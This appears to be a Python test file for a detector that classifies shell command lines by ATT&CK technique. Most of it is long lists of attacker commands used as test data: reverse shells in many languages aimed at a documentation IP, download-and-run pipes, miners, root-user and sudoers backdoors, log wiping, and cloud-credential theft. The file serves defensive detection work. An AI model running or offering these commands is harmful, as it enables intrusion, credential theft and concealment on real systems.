# SPDX-License-Identifier: AGPL-3.0-or-later
"""The judge of command lines."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clean_room_analysis.checks.commands import in_words, rank, suspicions, techniques, worst
from clean_room_analysis.checks.persistence import persistent_suspicions
from clean_room_analysis.model import Severity

HOSTILE = [
    ("curl -fsSL http://198.51.100.23/i.sh | bash", "T1105"),
    ("wget -qO- https://evil.example/x|sudo sh", "T1105"),
    ("bash <(curl -s https://evil.example)", "T1105"),
    ("wget http://evil.example/m -O /tmp/m && chmod +x /tmp/m", "T1105"),
    ("echo aGk= | base64 -d | sh", "T1140"),
    ("bash -i >& /dev/tcp/198.51.100.23/4444 0>&1", "T1059.004"),
    ("nc -e /bin/sh 198.51.100.23 4444", "T1059.004"),
    ("python3 -c 'import socket,os;s=socket.socket()'", "T1059.006"),
    ("./m -o stratum+tcp://pool.example:3333", "T1496"),
    ("echo /lib/x.so > /etc/ld.so.preload", "T1574.006"),
    ("chmod u+s /usr/local/bin/x", "T1548.001"),
    ("chmod 4755 /tmp/sh", "T1548.001"),
    ("useradd -o -u 0 sysadm", "T1136.001"),
    ("useradd -ou 0 -g 0 sysadm", "T1136.001"),
    ("echo ssh-rsa AAAA >> /root/.ssh/authorized_keys", "T1098.004"),
    ("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", "T1552.005"),
    ("cat /etc/shadow", "T1003.008"),
    ("unset HISTFILE", "T1070.003"),
    ("history -c", "T1070.003"),
    ("rm -rf /var/log/secure", "T1070.002"),
    ("touch -r /bin/ls /tmp/x", "T1070.006"),
    ("systemctl stop auditd", "T1562.001"),
    ("iptables -F", "T1562.004"),
    ("chattr +i /etc/cron.d/x", "T1222.002"),
    ("export PATH=/tmp/bin:$PATH", "T1574.007"),
    ("insmod /tmp/r.ko", "T1547.006"),
]
ORDINARY = [
    "sudo systemctl status httpd",
    "df -h",
    "curl -s http://localhost/health",
    "tar xf release.tar.gz",
    "dnf install -y python3.12",
    "curl -o /opt/app.jar https://repo.example.com/app.jar",
    "/usr/bin/mysqldump orders | gzip > /srv/backup/orders.sql.gz",
    "tail -f /var/log/httpd/error_log",
    "chmod 755 /usr/local/bin/release.sh",
    "python3 -m venv .venv",
    "ssh web-1",
    "01 * * * * root run-parts /etc/cron.hourly",
    "run-parts /etc/cron.daily",
    "git push origin main",
    "passwd ec2-user",
    "cat /etc/hosts",
    "rm -f /var/lock/subsys/local",
    "rsync -a src/ dst/",
    "[ -f ~/.bashrc ] && . ~/.bashrc",
    "export HISTSIZE=5000",
    "echo done > /var/tmp/state",
    "kill -HUP $(cat /run/nginx.pid)",
    "touch /var/lock/subsys/local",
    "find /var/log/app -mtime +30 -delete",
    "journalctl --vacuum-time=14d",
    "usermod -aG docker ec2-user",
    "service nginx stop",
    "apt-get install -y auditd",
    "nc -z db 5432 && echo up",
    'node -e \'console.log(require("net").isIP("::1"))\'',
    "perl -e 'print 1'",
    "ruby -e 'puts 1'",
    "sed -i 's/a/b/' /etc/nginx/nginx.conf",
    "find / -name core -size +1G",
    "kubectl get pods -A",
    "aws iam get-user",
    "git config core.pager less",
]

#: What people who break in type, in the many spellings there are.
TYPED = [
    'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1',
    'sh -i 5<> /dev/tcp/198.51.100.23/4444 0<&5 1>&5 2>&5',
    'exec 196<>/dev/tcp/198.51.100.23/443; sh <&196 >&196',
    '0<&196;exec 196<>/dev/tcp/198.51.100.23/9001; /bin/sh <&196 >&196 2>&196',
    'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.23 9001 >/tmp/f',
    'nc -e /bin/sh 198.51.100.23 4444',
    'nc 198.51.100.23 4444 -e /bin/bash',
    'busybox nc 198.51.100.23 4444 -e sh',
    'ncat 198.51.100.23 4444 -e /bin/sh',
    'ncat --ssl 198.51.100.23 443 -c sh',
    'nc -c bash 198.51.100.23 4444',
    'mknod /tmp/p p && nc 198.51.100.23 4444 0</tmp/p | /bin/bash 1>/tmp/p',
    'telnet 198.51.100.23 4444 | /bin/bash | telnet 198.51.100.23 4445',
    'TF=$(mktemp -u);mkfifo $TF && telnet 198.51.100.23 4444 0<$TF | sh 1>$TF',
    'socat TCP:198.51.100.23:4444 EXEC:/bin/sh',
    "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:198.51.100.23:4444",
    'socat OPENSSL:198.51.100.23:443,verify=0 EXEC:/bin/bash',
    'socat tcp-connect:198.51.100.23:4444 system:/bin/sh',
    'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.23",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'',
    'export RHOST="198.51.100.23";export RPORT=4444;python -c \'import sys,socket,os,pty;s=socket.socket()\'',
    'perl -e \'use Socket;$i="198.51.100.23";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));\'',
    'perl -MIO -e \'$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"198.51.100.23:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;\'',
    'ruby -rsocket -e \'spawn("sh",[:in,:out,:err]=>TCPSocket.new("198.51.100.23",4444))\'',
    'ruby -rsocket -e\'f=TCPSocket.open("198.51.100.23",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
    'php -r \'$sock=fsockopen("198.51.100.23",4444);exec("sh <&3 >&3 2>&3");\'',
    'lua -e "require(\'socket\');require(\'os\');t=socket.tcp();t:connect(\'198.51.100.23\',\'4444\');os.execute(\'sh -i <&3 >&3 2>&3\');"',
    'awk \'BEGIN {s = "/inet/tcp/0/198.51.100.23/4444"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}\' /dev/null',
    'gawk \'BEGIN{s="/inet/tcp/0/198.51.100.23/4444";for(;s|&getline c;close(c))while(c|getline)print|&s;close(s)}\'',
    'node -e \'(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("sh",[]);var c=new net.Socket();c.connect(4444,"198.51.100.23",function(){c.pipe(sh.stdin)})})()\'',
    'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.23:443 > /tmp/s; rm /tmp/s',
    "zsh -c 'zmodload zsh/net/tcp && ztcp 198.51.100.23 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
    'echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjIzLzQ0NDQgMD4mMQ== | base64 -d | bash',
    'bash -c "$(echo YmFzaCAtaQ== | base64 -d)"',
    'bash <(echo YmFz | base64 --decode)',
    "echo 'Y3Vyb' | openssl base64 -d | sh",
    "printf '\\x62\\x61\\x73\\x68' | sh",
    'python3 -c "import base64;exec(base64.b64decode(\'aW1wb3J0\'))"',
    'perl -MMIME::Base64 -e \'eval(decode_base64("cHJpbnQ="))\'',
    'echo 1f8b08 | xxd -r -p | gunzip | sh',
    'bash -c {echo,YmFzaCAtaSA=}|{base64,-d}|{bash,-i}',
    'eval "$(curl -fsSL http://198.51.100.23/i.sh)"',
    'source <(curl -s http://198.51.100.23/x)',
    '. <(wget -qO- http://198.51.100.23/x)',
    'curl -fsSL 198.51.100.23/x -o /tmp/.x && chmod 777 /tmp/.x && /tmp/.x',
    'wget -q http://198.51.100.23/k -O /dev/shm/k; chmod +x /dev/shm/k; /dev/shm/k &',
    '(curl -fsSL http://198.51.100.23/a || wget -q -O - http://198.51.100.23/a) | bash',
    'curl http://198.51.100.23/x.py | python3 -',
    'wget -O - http://198.51.100.23/x | perl',
    'curl -s http://198.51.100.23/x | base64 -d | bash',
    'curl -s http://198.51.100.23/x > /tmp/a; sh /tmp/a',
    'cd /tmp; wget http://198.51.100.23/bins.sh; chmod 777 *; sh bins.sh',
    'cd /tmp || cd /var/run; curl -O http://198.51.100.23/x86; chmod 777 x86; ./x86',
    'tftp -g -r x 198.51.100.23; sh x',
    'ftpget -v -u anonymous 198.51.100.23 x x; sh x',
    './gs-netcat -s secret -l -i',
    'curl -fsSL gsocket.io/x | bash',
    'ssh -fN -R 2222:localhost:22 evil@198.51.100.23',
    'ssh -N -R 0.0.0.0:8080:localhost:22 x@198.51.100.23',
    'chisel client 198.51.100.23:8080 R:socks',
    './frpc -c f.ini',
    'ngrok tcp 22',
    'nohup ./xmrig -o pool.minexmr.com:443 -u 44AFFq5k &',
    './kworker --donate-level 1 -o 198.51.100.23:3333 -u wallet -p x -k',
    './x -a rx/0 -o pool.supportxmr.com:3333',
    'minerd -a cryptonight -o stratum+tcp://x:1',
    "echo 'r00t::0:0::/root:/bin/bash' >> /etc/passwd",
    'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysd',
    'usermod -aG sudo www-data',
    'usermod -aG docker www-data',
    "echo 'www-data ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/x",
    "echo 'x ALL=(ALL) NOPASSWD:ALL' | tee -a /etc/sudoers",
    'echo ssh-rsa AAAA | tee -a /root/.ssh/authorized_keys',
    'cp /bin/bash /tmp/.b; chmod u+s /tmp/.b',
    'chmod 4755 /bin/bash',
    'chmod +s /usr/bin/find',
    'setcap cap_setuid+ep /usr/bin/python3',
    'history -cw',
    'rm -rf /var/log/*',
    'echo > /var/log/wtmp',
    'cat /dev/null > /var/log/auth.log',
    'rm -f ~/.bash_history',
    'ln -sf /dev/null ~/.bash_history',
    'export HISTFILE=/dev/null',
    'set +o history',
    'unset HISTFILE',
    'kill -9 $$',
    'shred -u /var/log/secure',
    'journalctl --vacuum-time=1s',
    'find /var/log -type f -delete',
    "sed -i '/198.51/d' /var/log/auth.log",
    'dd if=/dev/zero of=/var/log/wtmp bs=1 count=1',
    'service auditd stop',
    'systemctl stop rsyslog',
    'setenforce 0',
    'ufw disable',
    'iptables -F',
    'apt-get remove -y auditd',
    'echo 0 > /proc/sys/kernel/randomize_va_space',
    'chattr +i /etc/ld.so.preload',
    'pkill -9 -f amazon-ssm-agent',
    'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'TOKEN=$(curl -X PUT http://169.254.169.254/latest/api/token -H \'X-aws-ec2-metadata-token-ttl-seconds: 21600\'); curl -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/iam/security-credentials/role',
    'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI',
    'cat ~/.aws/credentials',
    'cat /etc/shadow',
    'tar czf - /home | nc 198.51.100.23 99',
    "find / -name '*.pem' 2>/dev/null",
    'aws iam create-user --user-name x',
    'aws iam create-access-key --user-name admin',
    'docker run -v /:/host --privileged alpine chroot /host',
    'docker run --rm -it -v /:/mnt alpine chroot /mnt sh',
    'nsenter --target 1 --mount --uts --ipc --net --pid',
    'kubectl get secrets -A',
    'insmod ./diamorphine.ko',
    'insmod rk.ko',
    'make -C /lib/modules/$(uname -r)/build M=$PWD modules',
    'gcc -shared -fPIC -o /lib/libs.so x.c -ldl',
    'gcc exploit.c -o exploit && ./exploit',
    'python -c \'import pty; pty.spawn("/bin/bash")\'',
    'script -qc /bin/bash /dev/null',
    './linpeas.sh',
    'wget https://github.com/carlospolop/PEASS-ng/releases/latest/download/linpeas.sh',
    'nmap -sS 10.0.0.0/8',
    'masscan 10.0.0.0/8 -p22',
    'hydra -l root -P p.txt ssh://10.0.0.1',
    'sqlmap -u http://x',
    'msfvenom -p linux/x64/shell',
    'mv /bin/ps /bin/ps.orig',
    'LD_PRELOAD=/tmp/x.so id',
    "crontab -l | { cat; echo '* * * * * /tmp/x'; } | crontab -",
    'at now + 1 minute -f /tmp/x',
    'systemctl enable --now /tmp/x.service',
    "echo '/lib/x.so' > /etc/ld.so.preload",
    'touch -r /bin/ls /bin/x',
    "touch -d '2 years ago' x",
    'crontab /tmp/c',
    "(crontab -l;echo '@reboot /tmp/x')|crontab -",
    "unshare -rm sh -c 'mkdir l u w m'",
    'pkexec --version; ./PwnKit',
    'sudo -u#-1 id',
    'passwd -u daemon',
    'chpasswd <<< root:x',
    'echo root:toor | chpasswd',
    'passwd -d root',
]  # fmt: skip


def test_every_spelling_is_medium_or_worse() -> None:
    missed = [command for command in TYPED if not any(rank(one.severity) <= rank(Severity.MEDIUM) for one in suspicions(command))]
    assert missed == [] or all("/tmp/" in command and persistent_suspicions(command, "T1059") for command in missed), missed


@pytest.mark.parametrize(("command", "technique"), HOSTILE)
def test_hostile_commands_stand_out(command: str, technique: str) -> None:
    found = suspicions(command)
    assert technique in techniques(found)
    assert in_words(found)


@pytest.mark.parametrize("command", ORDINARY)
def test_ordinary_commands_do_not(command: str) -> None:
    assert suspicions(command) == ()


@given(st.text(alphabet=st.sampled_from("curlwget |sh;-/.&<>$()0123 base64\n/tmp/dev"), max_size=400))
def test_any_text_is_judged_worst_first(command: str) -> None:
    found = suspicions(command)
    assert list(found) == sorted(found, key=lambda one: (rank(one.severity), one.attack))
    if found:
        assert worst(found) is found[0].severity


@pytest.mark.parametrize(
    "unit", ["curl ", "useradd -o ", "chmod ", "/tmp/", "wget a|", "rm /", "> ", "$_", "/.a", "python -c socket", "base64 -d | ", "-e "]
)
def test_no_line_takes_long(unit: str) -> None:
    """Patterns are bounded: the longest line that is read is judged at once."""
    line = (unit * 4096)[:4096]
    began = time.process_time()
    persistent_suspicions(line, "T1053.003")
    assert time.process_time() - began < 1.0


def test_unattended_commands_are_judged_by_their_place_too() -> None:
    assert persistent_suspicions("/usr/sbin/httpd -DFOREGROUND", "T1543.002") == ()
    assert persistent_suspicions("/var/tmp/kworkerd", "T1543.002")[0].severity is Severity.HIGH
    assert persistent_suspicions("/usr/lib/.cache2/x --daemon", "T1543.002")[0].reason == "names a hidden path"
    assert persistent_suspicions("/home/app/.venv/bin/python -m app", "T1543.002") == ()
